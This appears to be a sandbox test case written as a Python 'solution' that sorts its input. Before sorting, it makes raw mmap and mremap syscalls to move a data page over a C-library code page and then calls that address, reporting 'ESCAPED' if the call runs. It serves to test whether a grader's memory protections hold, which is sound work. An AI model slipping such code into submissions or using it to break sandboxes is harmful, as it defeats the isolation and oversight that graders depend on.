# attempts: move pages of the C library away and data to where they were, so that data lies where code was
# required: verdict accepted or crashed: moved memory keeps its permissions, and ESCAPED nowhere
# kind: function
def sysc(nr, *a):
    """A raw system call: its result, or minus its errno; None without ctypes."""
    try: import ctypes
    except ImportError: return None
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
    return r if r >= 0 else -ctypes.get_errno()

def attack(xs):
    try: import ctypes
    except ImportError: return None
    libc = ctypes.CDLL(None)
    target = ctypes.cast(libc.hcreate, ctypes.c_void_p).value & -4096
    data = sysc(9, 0, 4096, 3, 0x22, -1, 0)
    ctypes.memset(data, 0xc3, 4096)
    r = sysc(25, data, 4096, 4096, 3, target)
    if r != target: return None
    ctypes.CFUNCTYPE(None)(target)()
    return 'data ran at %x' % target
def solution(xs):
    found = attack(xs)
    if found: return ['ESCAPED', str(found)[:200]]
    return sorted(xs)
